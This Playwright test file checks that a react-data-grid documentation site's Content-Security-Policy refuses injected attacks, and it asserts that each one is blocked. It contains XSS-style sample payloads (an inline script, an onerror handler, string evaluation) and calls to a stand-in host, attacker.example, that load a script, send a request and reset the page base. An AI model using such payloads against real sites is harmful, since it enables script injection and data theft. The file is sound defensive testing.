/** The Content-Security-Policy refuses what an attacker who got markup into a page could try. */
import { expect, test } from '../support/fixtures';
import { current, versions } from '../support/site';

interface Attack {
  title: string;
  /** The directive of the policy that must refuse it. */
  directive: string;
  /** Runs in the page, as what got in by markup would. */
  run(): void;
}

const attacks: readonly Attack[] = [
  {
    title: 'an inline script',
    directive: 'script-src-elem',
    run() {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.body.append(script);
    },
  },
  {
    title: 'a handler in markup',
    directive: 'script-src-attr',
    run() {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="attacked = true">');
    },
  },
  {
    title: 'a script of another host',
    directive: 'script-src-elem',
    run() {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/script.js';
      document.body.append(script);
    },
  },
  {
    title: 'text that is evaluated',
    directive: 'script-src',
    run() {
      // By a timer: what a check evaluates at once is exempt.
      window.setTimeout('window.attacked = true');
    },
  },
  {
    title: 'a request to another host',
    directive: 'connect-src',
    run() {
      fetch('https://attacker.example/').catch(() => {});
    },
  },
  {
    title: 'a base of another host',
    directive: 'base-uri',
    run() {
      document.head.insertAdjacentHTML('afterbegin', '<base href="https://attacker.example/">');
    },
  },
];

declare global {
  interface Window {
    /** What the policy refused, by directive. */
    refused: string[];
  }
}

// The browser logs what the policy refuses. It also announces the script that it then does not load.
test.use({
  allowedLogs: [/^error: .*(?:Content Security Policy|violates the following)/],
  allowedRequests: [/^(?:another host|csp): https:\/\/attacker\.example\/script\.js$/],
});

for (const { name, label, basePath } of versions) {
  const tag = name === current.name ? [] : ['@all'];
  test(
    `a page of ${label} runs and sends nothing of an attacker's`,
    { tag },
    async ({ page, site }) => {
      // The policy is not in the pages: what the server sends it from must count as served.
      site.read('/.headers.json');
      await page.goto(`${basePath}react-data-grid`, { waitUntil: 'domcontentloaded' });
      await page.evaluate(() => {
        window.refused = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          window.refused.push(effectiveDirective),
        );
      });
      for (const { title, directive, run } of attacks) {
        await test.step(title, async () => {
          await page.evaluate(() => {
            window.refused = [];
          });
          await page.evaluate(run);
          await expect
            .poll(() => page.evaluate(() => window.refused), `${title} is refused`)
            .toContain(directive);
          expect(await page.evaluate(() => 'attacked' in window), `${title} does not run`).toBe(
            false,
          );
        });
      }
      expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
    },
  );
}
